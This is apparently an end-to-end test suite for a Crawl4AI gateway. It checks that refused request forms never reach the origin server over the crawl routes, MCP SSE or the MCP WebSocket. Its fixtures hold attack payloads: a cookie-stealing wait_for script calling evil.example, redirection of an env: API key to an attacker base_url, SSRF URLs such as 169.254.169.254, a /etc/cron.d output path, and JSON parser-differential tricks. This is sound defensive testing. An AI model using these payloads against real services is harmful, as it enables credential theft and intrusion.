/**
 * Black box through `wrangler dev` (issue #16 "Must show"): a real HTTP origin records every
 * request and WebSocket message it receives. None of the refused forms — JavaScript in
 * `wait_for`, an `env:` LLM key with a caller-chosen `base_url` nested in an extraction strategy,
 * and JSON the gateway cannot read the way Python would — reaches it over any crawl route, over
 * MCP SSE messages or over the MCP WebSocket; the legitimate Crawl4AI payloads reach it exactly.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash, randomBytes } from 'node:crypto';
import http from 'node:http';
import net, { type AddressInfo, type Socket } from 'node:net';
import { TEST_VARS } from '../helpers/test-vars';
import { startDevServer, type DevServer } from '../helpers/wrangler-dev';
import { LEGIT_BODIES } from '../crawl/options-fixtures';

const KEY = 'sk-e2e-crawler-4Tz8Qm2Lx7Vb1Nc6Rk9Wd3Hs5';
let server: DevServer | undefined;
let origin: http.Server;
let base = '';
const seen: Array<{ path: string; body: string }> = [];
const originSockets = new Set<Socket>();
let sessionCounter = 0;

function frame(opcode: number, payload: Buffer, mask: boolean): Buffer {
  const len = payload.length;
  const head =
    len < 126
      ? Buffer.from([0x80 | opcode, (mask ? 0x80 : 0) | len])
      : Buffer.from([0x80 | opcode, (mask ? 0x80 : 0) | 126, len >> 8, len & 0xff]);
  if (!mask) return Buffer.concat([head, payload]);
  const key = randomBytes(4);
  const body = Buffer.from(payload.map((b, i) => b ^ (key[i % 4] as number)));
  return Buffer.concat([head, key, body]);
}

/** Reads RFC 6455 frames from `buf`; returns complete ones and the rest. */
function readFrames(input: Buffer): { frames: Array<{ opcode: number; payload: Buffer }>; rest: Buffer } {
  const frames: Array<{ opcode: number; payload: Buffer }> = [];
  let buf: Buffer = input;
  for (;;) {
    if (buf.length < 2) break;
    let len = (buf[1] as number) & 0x7f;
    let offset = 2;
    if (len === 126) {
      if (buf.length < 4) break;
      len = buf.readUInt16BE(2);
      offset = 4;
    }
    const masked = ((buf[1] as number) & 0x80) !== 0;
    const maskAt = offset;
    if (masked) offset += 4;
    if (buf.length < offset + len) break;
    const payload = Buffer.from(buf.subarray(offset, offset + len));
    if (masked) for (let i = 0; i < payload.length; i++) payload[i] = (payload[i] as number) ^ (buf[maskAt + (i % 4)] as number);
    frames.push({ opcode: (buf[0] as number) & 0x0f, payload });
    buf = buf.subarray(offset + len);
  }
  return { frames, rest: buf };
}

/** The recording origin: Crawl4AI-shaped answers, every body and WebSocket message kept. */
function startOrigin(): Promise<number> {
  origin = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      const url = new URL(req.url ?? '/', 'http://origin');
      if (url.pathname === '/mcp/sse') {
        res.writeHead(200, { 'Content-Type': 'text/event-stream' });
        res.write(`event: endpoint\ndata: /mcp/messages/?session_id=${(++sessionCounter).toString(16).padStart(32, '0')}\n\n`);
        return; // kept open
      }
      seen.push({ path: url.pathname, body });
      const json = (status: number, v: unknown) => {
        res.writeHead(status, { 'Content-Type': 'application/json' });
        res.end(JSON.stringify(v));
      };
      if (url.pathname === '/crawl/job') return json(202, { task_id: `crawl_${randomBytes(6).toString('hex')}` });
      if (url.pathname.startsWith('/mcp/messages')) return json(202, {});
      if (url.pathname === '/crawl/stream') {
        res.writeHead(200, { 'Content-Type': 'application/x-ndjson' });
        return res.end(JSON.stringify({ status: 'completed' }) + '\n');
      }
      return json(200, { success: true, results: [] });
    });
  });
  origin.on('upgrade', (req, socket: Socket) => {
    originSockets.add(socket);
    const key = String(req.headers['sec-websocket-key'] ?? '');
    const accept = createHash('sha1')
      .update(key + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11')
      .digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    let buf: Buffer = Buffer.alloc(0);
    socket.on('data', (d: Buffer) => {
      const r = readFrames(Buffer.concat([buf, d]));
      buf = r.rest;
      for (const f of r.frames) {
        if (f.opcode === 8) return socket.end(frame(8, Buffer.alloc(0), false));
        if (f.opcode === 1) {
          seen.push({ path: '/mcp/ws', body: f.payload.toString('utf8') });
          socket.write(frame(1, Buffer.from(JSON.stringify({ echo: JSON.parse(f.payload.toString('utf8')) })), false));
        }
      }
    });
    socket.on('error', () => socket.destroy());
  });
  return new Promise((resolve) => origin.listen(0, '127.0.0.1', () => resolve((origin.address() as AddressInfo).port)));
}

/** A minimal WebSocket client (Node 20 has none built in). */
async function openSocket(
  urlPath: string,
): Promise<{ send: (text: string) => void; next: () => Promise<{ opcode: number; text: string }>; close: () => void }> {
  const u = new URL(base + urlPath);
  const socket = net.connect(Number(u.port), u.hostname);
  const key = randomBytes(16).toString('base64');
  socket.write(
    `GET ${urlPath} HTTP/1.1\r\nHost: ${u.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${key}\r\nSec-WebSocket-Version: 13\r\nX-API-Key: ${KEY}\r\n\r\n`,
  );
  const queue: Array<{ opcode: number; text: string }> = [];
  const waiters: Array<(f: { opcode: number; text: string }) => void> = [];
  let buf: Buffer = Buffer.alloc(0);
  let upgraded = false;
  await new Promise<void>((resolve, reject) => {
    socket.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      if (!upgraded) {
        const end = buf.indexOf('\r\n\r\n');
        if (end < 0) return;
        const head = buf.subarray(0, end).toString();
        if (!head.startsWith('HTTP/1.1 101')) return reject(new Error(head));
        upgraded = true;
        buf = buf.subarray(end + 4);
        resolve();
      }
      const r = readFrames(buf);
      buf = r.rest;
      for (const f of r.frames) {
        const item = { opcode: f.opcode, text: f.payload.toString('utf8') };
        const w = waiters.shift();
        if (w) w(item);
        else queue.push(item);
      }
    });
    socket.on('error', reject);
  });
  return {
    send: (text) => socket.write(frame(1, Buffer.from(text), true)),
    next: () => new Promise((resolve) => (queue.length > 0 ? resolve(queue.shift()!) : waiters.push(resolve))),
    close: () => socket.end(frame(8, Buffer.from([0x03, 0xe8]), true)),
  };
}

beforeAll(async () => {
  const originPort = await startOrigin();
  const apiKeys = JSON.stringify({
    crawler: {
      key: KEY,
      name: 'crawler',
      rate_limit: '1000/minute',
      scopes: ['crawl:run', 'crawl:screenshot', 'crawl:pdf', 'jobs:write', 'jobs:read'],
    },
  });
  server = await startDevServer({
    vars: {
      ...TEST_VARS,
      ENVIRONMENT: 'development',
      TRUSTED_HOSTS: '',
      API_KEYS: apiKeys,
      ORIGIN_URL: `http://127.0.0.1:${originPort}`,
      ORIGIN_PROFILE: 'crawl4ai-0.8',
    },
    persistPrefix: 'cg-opts-',
    readyTimeoutMs: 240_000,
  });
  base = server.base;
}, 300_000);

afterAll(async () => {
  server?.stop();
  for (const s of originSockets) s.destroy();
  origin?.closeAllConnections();
  await new Promise((r) => origin?.close(r));
});

const post = (p: string, body: string) =>
  fetch(base + p, { method: 'POST', headers: { 'X-API-Key': KEY, 'Content-Type': 'application/json' }, body });

const JS_WAIT = {
  urls: ['https://example.com/'],
  crawler_config: {
    type: 'CrawlerRunConfig',
    params: { wait_for: '() => { fetch("https://evil.example/" + document.cookie); return true }' },
  },
};
const ENV_KEY = {
  urls: ['https://example.com/'],
  crawler_config: {
    type: 'CrawlerRunConfig',
    params: {
      extraction_strategy: {
        type: 'LLMExtractionStrategy',
        params: {
          llm_config: {
            type: 'LLMConfig',
            params: { provider: 'openai/gpt-4o', api_token: 'env:OPENAI_API_KEY', base_url: 'https://evil.example/v1' },
          },
        },
      },
    },
  },
};
/** Python's json accepts NaN; JSON.parse does not. Duplicate keys: each side keeps a different one. */
const PY_ONLY =
  '{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"page_timeout":NaN,"js_code":"x()"}}}';
const DUP =
  '{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"wait_for":"css:div","wait_for":"() => 1"}}}';
const BIG = '{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"page_timeout":1e400}}}';

function refusedForms(args: (b: Record<string, unknown>) => Record<string, unknown>): Array<[string, string]> {
  return [
    ['wait_for as JavaScript', JSON.stringify(args(JS_WAIT))],
    ['env: key to a caller-chosen base_url', JSON.stringify(args(ENV_KEY))],
  ];
}

describe('refused forms never reach the origin', () => {
  const crawlRoutes = ['/crawl', '/crawl/stream', '/crawl/job'];
  const unreadable: Array<[string, string]> = [
    ['NaN (Python json accepts it)', PY_ONLY],
    ['duplicate keys', DUP],
    ['a number that does not round-trip', BIG],
  ];

  it.each(crawlRoutes)('%s', async (route) => {
    const before = seen.length;
    for (const [label, body] of [...refusedForms((b) => b), ...unreadable]) {
      const res = await post(route, body);
      expect([400, 403, 422], label).toContain(res.status);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
    }
    expect(seen.slice(before)).toEqual([]);
  });

  it.each([
    ['/md', '{"url":"https://example.com/","f":"llm","q":"x","base_url":"https://evil.example/v1"}'],
    ['/md', '{"url":"https://example.com/","url":"http://169.254.169.254/"}'],
    ['/html', '{"url":"https://example.com/","x":NaN}'],
    ['/screenshot', '{"url":"https://example.com/","output_path":"/etc/cron.d/x"}'],
    ['/pdf', '{"url":"https://example.com/","url":"http://127.0.0.1/"}'],
    ['/execute_js', '{"url":"https://example.com/","scripts":["1"]}'],
  ])('%s %s', async (route, body) => {
    const before = seen.length;
    const res = await post(route, body);
    expect([400, 403, 422]).toContain(res.status);
    expect(seen.slice(before)).toEqual([]);
  });

  it('over MCP SSE messages', async () => {
    const sse = await fetch(`${base}/mcp/sse`, { headers: { 'X-API-Key': KEY } });
    const reader = sse.body!.pipeThrough(new TextDecoderStream()).getReader();
    let text = '';
    while (!/session_id=([0-9a-f]{32})/.test(text)) text += (await reader.read()).value ?? '';
    const session = /session_id=([0-9a-f]{32})/.exec(text)![1];
    const before = seen.length;
    const call = (args: Record<string, unknown>) =>
      JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'crawl', arguments: args } });
    const bodies = [
      ...refusedForms((b) => b).map(([, b]) => call(JSON.parse(b))),
      `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"crawl","arguments":{"urls":["https://example.com/"],"crawler_config":{"type":"CrawlerRunConfig","params":{"page_timeout":NaN}}}}}`,
      `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"crawl","name":"execute_js","arguments":{"url":"https://example.com/","scripts":["1"]}}}`,
    ];
    for (const b of bodies) {
      const res = await post(`/mcp/messages/?session_id=${session}`, b);
      expect([400, 403, 422]).toContain(res.status);
    }
    expect(seen.slice(before)).toEqual([]);
    await reader.cancel();
  });

  it('over the MCP WebSocket: JSON-RPC errors, and close 1007 after repeated unreadable messages', async () => {
    const ws = await openSocket('/mcp/ws');
    const before = seen.length;
    const call = (args: unknown) =>
      JSON.stringify({ jsonrpc: '2.0', id: 9, method: 'tools/call', params: { name: 'crawl', arguments: args } });
    ws.send(call(JS_WAIT));
    expect(JSON.parse((await ws.next()).text)).toMatchObject({ id: 9, error: { data: { code: 'insufficient_scope' } } });
    ws.send(call(ENV_KEY));
    expect(JSON.parse((await ws.next()).text)).toMatchObject({ id: 9, error: { code: -32602, data: { code: 'validation_failed' } } });
    for (let i = 0; i < 3; i++) {
      ws.send(
        `{"jsonrpc":"2.0","id":${i},"method":"tools/call","params":{"name":"crawl","arguments":{"urls":["https://example.com/"],"x":NaN}}}`,
      );
      expect(JSON.parse((await ws.next()).text)).toMatchObject({ error: { code: -32700 } });
    }
    const closing = await ws.next();
    expect(closing.opcode).toBe(8);
    expect(Buffer.from(closing.text, 'utf8').readUInt16BE(0)).toBe(1007);
    expect(seen.slice(before)).toEqual([]);
  });
});

describe('legitimate payloads reach the origin exactly', () => {
  it.each(Object.entries(LEGIT_BODIES))('%s', async (_name, { route, body }) => {
    const before = seen.length;
    const res = await post(route, JSON.stringify(body));
    expect(res.status).toBe(200);
    await res.arrayBuffer();
    const got = seen.slice(before);
    expect(got.map((g) => g.path)).toEqual([route]);
    expect(JSON.parse(got[0]!.body)).toEqual(body);
  });

  it('over the MCP WebSocket', async () => {
    const ws = await openSocket('/mcp/ws');
    const { body } = LEGIT_BODIES['a bounded same-domain BFS deep crawl with filters and a scorer']!;
    const msg = { jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name: 'crawl', arguments: body } };
    ws.send(JSON.stringify(msg));
    const echo = JSON.parse((await ws.next()).text) as { echo: unknown };
    expect(echo.echo).toEqual(msg);
    ws.close();
  });
});
